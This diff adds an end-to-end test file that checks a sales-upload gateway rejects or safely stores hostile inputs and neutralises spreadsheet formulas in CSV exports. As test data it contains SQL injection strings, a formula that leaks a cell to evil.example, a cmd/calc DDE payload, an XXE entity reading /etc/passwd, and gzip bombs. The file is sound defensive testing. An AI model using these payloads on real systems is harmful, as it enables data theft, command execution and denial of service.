@@ -1,0 +1,301 @@
+"""Bad inputs through the gateway: each gets a clear 4xx (or is stored as harmless data) and changes nothing.
+
+Garbage, bombs, huge lines, broken encodings and formats, absurd numbers and dates, wrong content
+types; SQL and spreadsheet-formula payloads in every text field; formula-safe error reports.
+"""
+
+from __future__ import annotations
+
+import csv
+import gzip
+import io
+import random
+import time
+import uuid
+import zipfile
+from typing import Any
+
+import httpx
+import pandas as pd
+import psycopg
+import pytest
+
+from common.csvsafe import csv_line
+from common.demo import generate_sales
+
+pytestmark = pytest.mark.e2e
+HEADER = b"date,store,sku,quantity,unit_price\n"
+ROW = b"2024-01-02,S1,A,1,2.5\n"
+MiB = 1024 * 1024
+SQL_AND_FORMULAS = (
+    "'; DROP TABLE sales_lines; --",
+    "Robert'); DELETE FROM users; --",
+    "1' OR '1'='1",
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "+SUM(1,2)",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(A1:A9)",
+    "=1+2",
+)
+
+
+def _gzip_bomb(prefix: bytes, filler: bytes, total_bytes: int, suffix: bytes = b"") -> bytes:
+    """A gzip file that inflates to `total_bytes` of `filler`: one small member repeated (RFC 1952 §2.2)."""
+    member = gzip.compress(filler * (MiB // len(filler)), compresslevel=9)
+    return gzip.compress(prefix) + member * (total_bytes // MiB) + (gzip.compress(suffix) if suffix else b"")
+
+
+def _xlsx_lookalike() -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        archive.writestr("xl/workbook.xml", "<workbook><sheets><sheet name='x' r:id='")
+    return buffer.getvalue()
+
+
+def _plain_zip() -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        archive.writestr("sales.csv", (HEADER + ROW).decode())
+    return buffer.getvalue()
+
+
+BAD_FILES: dict[str, bytes] = {
+    "binary garbage": random.Random(7).randbytes(256 * 1024),
+    "an image named .csv": b"\x89PNG\r\n\x1a\n" + random.Random(8).randbytes(4096),
+    "a zip bomb: 1 GiB of zeros gzipped": _gzip_bomb(b"", b"\0", 1024 * MiB),
+    "a gzip bomb of blank lines after the header": _gzip_bomb(HEADER, b"\n", 256 * MiB),
+    "a 2 GiB line (gzipped)": _gzip_bomb(HEADER + b"2024-01-02,S1,A,1,", b"9", 2048 * MiB, b"\n"),
+    "a 32 MiB line": HEADER + b"2024-01-02,S1,A,1," + b"7" * (32 * MiB) + b"\n",
+    "a 100k-character header": b"date,store,sku,quantity," + b"x" * 100_000 + b"\n" + ROW,
+    "invalid UTF-8 after the first 64 KiB": HEADER + ROW * 4000 + b"2024-01-02,S1,Caf\xe9,1,2\n",
+    "damaged gzip": b"\x1f\x8b\x08\x00" + random.Random(9).randbytes(2048),
+    "damaged parquet": b"PAR1" + random.Random(10).randbytes(2048),
+    "an xlsx look-alike": _xlsx_lookalike(),
+    "a zip archive": _plain_zip(),
+    "an empty file": b"",
+    "a header without rows": HEADER,
+    "quantity 1e400": HEADER + b"2024-01-02,S1,A,1e400,2\n",
+    "price 1e308": HEADER + b"2024-01-02,S1,A,1,1e308\n2024-01-03,S1,A,1e308,1e308\n",
+    "quantity of 400 digits": HEADER + b"2024-01-02,S1,A," + b"9" * 400 + b",2\n",
+    "NaN and infinity": HEADER + b"2024-01-02,S1,A,NaN,2\n2024-01-03,S1,A,1,inf\n",
+    "a date in year 9999": HEADER + b"9999-12-31,S1,A,1,2\n",
+    "a date in year 10000": HEADER + b"10000-01-01,S1,A,1,2\n",
+    "a date in year 1": HEADER + b"0001-01-01,S1,A,1,2\n",
+    "a 300-character sku": HEADER + b"2024-01-02,S1," + b"K" * 300 + b",1,2\n",
+    "a 300-character store": HEADER + b"2024-01-02," + b"S" * 300 + b",A,1,2\n",
+    "formulas as quantities": HEADER
+    + b"".join(b'2024-01-02,S1,A,"' + f.replace('"', '""').encode() + b'",2\n' for f in SQL_AND_FORMULAS),
+}
+
+
+def _account(base_url: str) -> dict[str, str]:
+    email = f"bad-inputs-{uuid.uuid4().hex[:10]}@shop.example"
+    with httpx.Client(base_url=base_url, timeout=30) as client:
+        registered = client.post(
+            "/auth/register", json={"email": email, "password": "password-123", "name": "Bad inputs"}
+        )
+        assert registered.status_code == 201, registered.text
+        tokens = client.post("/auth/login", json={"email": email, "password": "password-123"}).json()
+    return {"Authorization": f"Bearer {tokens['access_token']}"}
+
+
+def _wait_for_job(client: httpx.Client, job_id: str, timeout_s: float = 300) -> Any:
+    deadline = time.monotonic() + timeout_s
+    while True:
+        job = client.get(f"/jobs/{job_id}").json()
+        if job["status"] in ("succeeded", "failed"):
+            return job
+        assert time.monotonic() < deadline, f"job {job_id} still {job['status']}: {job['stages']}"
+        time.sleep(0.5)
+
+
+@pytest.fixture(scope="module")
+def shop(platform: Any, servers: Any) -> dict[str, Any]:
+    """A retailer with sales already stored and processed: the data that bad uploads must not touch."""
+    headers = _account(platform.base_url)
+    sales = generate_sales(n_stores=1, n_skus=3, days=90, n_customers=40, seed=13)
+    with httpx.Client(base_url=platform.base_url, headers=headers, timeout=120) as client:
+        response = client.post(
+            "/upload-sales", files={"file": ("sales.csv", sales.to_csv(index=False).encode(), "text/csv")}
+        )
+        assert response.status_code == 202, response.text
+        assert _wait_for_job(client, response.json()["job_id"])["status"] == "succeeded"
+        organization_id = client.get("/auth/me").json()["organization_id"]
+    return {
+        "headers": headers,
+        "base_url": platform.base_url,
+        "database_url": servers.database_url,
+        "organization_id": organization_id,
+        "rows": len(sales),
+    }
+
+
+def _snapshot(shop: dict[str, Any]) -> tuple[Any, ...]:
+    """Everything a bad upload could have changed: stored rows, the sales history, the forecasts."""
+    with psycopg.connect(shop["database_url"]) as conn:
+        row = conn.execute(
+            "SELECT count(*), sum(quantity), max(date) FROM sales_lines WHERE organization_id = %s",
+            (shop["organization_id"],),
+        ).fetchone()
+        staged = conn.execute(
+            "SELECT count(*) FROM staged_sales WHERE organization_id = %s", (shop["organization_id"],)
+        ).fetchone()
+    with httpx.Client(base_url=shop["base_url"], headers=shop["headers"], timeout=60) as client:
+        series = client.get("/sales/timeseries", params={"freq": "D"}).json()
+        forecast_total = client.get("/forecast").json()["total"]
+    return row, staged, series, forecast_total
+
+
+def _assert_clear_4xx(response: httpx.Response) -> None:
+    assert 400 <= response.status_code < 500, (response.status_code, response.text[:500])
+    detail = response.json()["detail"]
+    assert isinstance(detail, str) and detail and "internal error" not in detail, detail
+
+
+@pytest.mark.parametrize("name", list(BAD_FILES))
+def test_bad_file_gets_a_clear_4xx_and_leaves_the_data_as_it_was(shop: dict[str, Any], name: str) -> None:
+    before = _snapshot(shop)
+    assert before[0][0] == shop["rows"]
+    with httpx.Client(base_url=shop["base_url"], headers=shop["headers"], timeout=300) as client:
+        response = client.post("/upload-sales", files={"file": ("sales.csv", BAD_FILES[name], "text/csv")})
+        _assert_clear_4xx(response)
+        if "job_id" in response.json():
+            # A job that the upload opened is closed as failed, with the reason.
+            job = client.get(f"/jobs/{response.json()['job_id']}").json()
+            assert job["status"] == "failed" and job["error"], job
+        assert client.get("/health").status_code == 200
+    assert _snapshot(shop) == before
+
+
+@pytest.mark.parametrize(
+    ("content_type", "body"),
+    [
+        ("application/json", b'{"file": "2024-01-02,S1,A,1,2"}'),
+        ("text/csv", HEADER + ROW),
+        ("application/x-www-form-urlencoded", b"file=" + HEADER + ROW),
+        ("multipart/form-data", HEADER + ROW),  # no boundary
+        ("multipart/form-data; boundary=xyz", b"--xyz\r\nContent-Disposition: form-data; name=file\r\n\r\n"),
+        ("application/xml", b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>"),
+    ],
+)
+def test_wrong_content_type_gets_a_clear_4xx(shop: dict[str, Any], content_type: str, body: bytes) -> None:
+    before = _snapshot(shop)
+    with httpx.Client(base_url=shop["base_url"], timeout=60) as client:
+        response = client.post(
+            "/upload-sales", content=body, headers={**shop["headers"], "Content-Type": content_type}
+        )
+    _assert_clear_4xx(response)
+    assert _snapshot(shop) == before
+
+
+def test_error_report_neutralises_formulas(shop: dict[str, Any]) -> None:
+    body = BAD_FILES["formulas as quantities"]
+    with httpx.Client(base_url=shop["base_url"], headers=shop["headers"], timeout=60) as client:
+        response = client.post("/upload-sales", files={"file": ("formulas.csv", body, "text/csv")})
+        _assert_clear_4xx(response)
+        report = client.get(f"/jobs/{response.json()['job_id']}/errors.csv")
+    assert report.status_code == 200 and report.headers["content-type"].startswith("text/csv")
+    rows = list(csv.DictReader(io.StringIO(report.text)))
+    assert [r["value"] for r in rows] == ["'" + payload for payload in SQL_AND_FORMULAS[3:]] or [
+        r["value"] for r in rows
+    ] == [("'" + p if p[0] in "=+-@" else p) for p in SQL_AND_FORMULAS]
+    assert all(r["value"][0] not in "=+-@\t\r" for r in rows)
+
+
+def test_every_formula_prefix_gets_an_apostrophe_in_csv_exports() -> None:
+    # Uploads trim whitespace, so tab and CR can never lead a stored value: checked here on the
+    # exporter itself, which every CSV export (errors, segments, purchase orders) goes through.
+    line = csv_line(["=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=cmd", "\r=cmd", "-5", "1e3", "plain"])
+    cells = next(csv.reader(io.StringIO(line)))
+    assert cells == ["'=1+2", "'+1+2", "'-1+2", "'@SUM(A1)", "'\t=cmd", "'\r=cmd", "-5", "1e3", "plain"]
+
+
+def test_sql_and_formula_payloads_in_every_text_field_are_stored_as_plain_data(
+    platform: Any, servers: Any
+) -> None:
+    sales = generate_sales(n_stores=1, n_skus=len(SQL_AND_FORMULAS), days=90, n_customers=24, seed=17)
+    payload_of = dict(zip(sorted(sales["sku"].unique()), SQL_AND_FORMULAS, strict=True))
+    sales["sku"] = sales["sku"].map(payload_of)
+    sales["store"] = SQL_AND_FORMULAS[3]
+    sales["product_name"] = sales["sku"] + " <script>alert(1)</script>"
+    sales["category"] = SQL_AND_FORMULAS[6]
+    customers = sorted(sales["customer_id"].unique())
+    sales["customer_id"] = sales["customer_id"].map(
+        {c: f"{SQL_AND_FORMULAS[i % len(SQL_AND_FORMULAS)]}#{c}" for i, c in enumerate(customers)}
+    )
+    sales["transaction_id"] = SQL_AND_FORMULAS[0] + sales["transaction_id"]
+    headers = _account(platform.base_url)
+    with httpx.Client(base_url=platform.base_url, headers=headers, timeout=120) as client:
+        body = sales.to_csv(index=False, quoting=csv.QUOTE_NONNUMERIC).encode()
+        response = client.post("/upload-sales", files={"file": ("payloads.csv", body, "text/csv")})
+        assert response.status_code == 202, response.text
+        job = _wait_for_job(client, response.json()["job_id"])
+        assert job["status"] == "succeeded", job["stages"]
+        assert job["rows_new"] == len(sales)
+        # The payloads come back verbatim as names, and work as filters like any other name.
+        forecast = client.get("/forecast", params={"limit": 100}).json()
+        assert sorted(item["sku"] for item in forecast["items"]) == sorted(SQL_AND_FORMULAS)
+        assert {item["store"] for item in forecast["items"]} == {SQL_AND_FORMULAS[3]}
+        one = client.get("/forecast", params={"store": SQL_AND_FORMULAS[3], "sku": SQL_AND_FORMULAS[0]}).json()
+        assert one["total"] == 1 and one["items"][0]["sku"] == SQL_AND_FORMULAS[0]
+        export = client.get("/customer-segments/export.csv")
+    assert export.status_code == 200
+    exported = list(csv.DictReader(io.StringIO(export.text)))
+    assert len(exported) == sales.loc[sales["quantity"] > 0, "customer_id"].nunique()
+    for row in exported:
+        assert all(not value or value[0] not in "=+@\t\r" for value in row.values()), row
+        if row["customer_id"].lstrip("'")[0] in "=+-@":
+            assert row["customer_id"].startswith("'"), row
+    with psycopg.connect(servers.database_url) as conn:
+        # The tables the payloads name are still there, and hold what they held.
+        assert conn.execute("SELECT count(*) FROM users").fetchone() is not None
+        stored = conn.execute(
+            "SELECT count(*) FROM sales_lines WHERE store = %s", (SQL_AND_FORMULAS[3],)
+        ).fetchone()
+    assert stored is not None and stored[0] == len(sales)
+
+
+def test_mixed_encodings_are_stored_as_harmless_text(platform: Any) -> None:
+    # One Latin-1 line and one UTF-8 line in the same file: read as Latin-1, nothing lost or run.
+    body = HEADER + "2024-01-02,S1,Caf\xe9,1,2\n".encode("latin-1") + "2024-01-03,S1,Café,1,2\n".encode()
+    headers = _account(platform.base_url)
+    with httpx.Client(base_url=platform.base_url, headers=headers, timeout=120) as client:
+        response = client.post("/upload-sales", files={"file": ("mixed.csv", body, "text/csv")})
+        assert response.status_code == 202, response.text
+        assert _wait_for_job(client, response.json()["job_id"])["status"] in ("succeeded", "failed")
+        skus = {item["sku"] for item in client.get("/forecast", params={"limit": 10}).json()["items"]}
+    assert "Café" in skus and len(skus) == 2  # the UTF-8 bytes are kept, as Latin-1 text
+
+
+def test_uploads_are_never_evaluated_as_formulas_in_the_preview(shop: dict[str, Any]) -> None:
+    body = HEADER + b'2024-01-02,S1,"=cmd|\' /C calc\'!A0",1,2\n'
+    with httpx.Client(base_url=shop["base_url"], headers=shop["headers"], timeout=60) as client:
+        preview = client.post(
+            "/upload-sales", params={"dry_run": "true"}, files={"file": ("f.csv", body, "text/csv")}
+        )
+    assert preview.status_code == 200, preview.text
+    assert preview.json()["rows_valid"] == 1
+
+
+def test_a_gzip_member_of_valid_rows_is_parsed_as_data(shop: dict[str, Any]) -> None:
+    # Control for the bombs above: a small gzipped file is read fine (dry run: nothing stored).
+    body = gzip.compress(HEADER + ROW * 10)
+    before = _snapshot(shop)
+    with httpx.Client(base_url=shop["base_url"], headers=shop["headers"], timeout=60) as client:
+        preview = client.post(
+            "/upload-sales", params={"dry_run": "true"}, files={"file": ("s.csv.gz", body, "text/csv")}
+        )
+    assert preview.status_code == 200 and preview.json()["rows_valid"] == 10, preview.text
+    assert _snapshot(shop) == before
+
+
+def test_bad_files_do_not_slow_the_next_good_upload(shop: dict[str, Any]) -> None:
+    # After every bad file above, the platform still takes a good upload (dry run).
+    frame = pd.DataFrame({"date": ["2024-01-02"], "store": ["S1"], "sku": ["A"], "quantity": [1], "unit_price": [2]})
+    with httpx.Client(base_url=shop["base_url"], headers=shop["headers"], timeout=60) as client:
+        preview = client.post(
+            "/upload-sales",
+            params={"dry_run": "true"},
+            files={"file": ("ok.csv", frame.to_csv(index=False).encode(), "text/csv")},
+        )
+    assert preview.status_code == 200 and preview.json()["rows_valid"] == 1
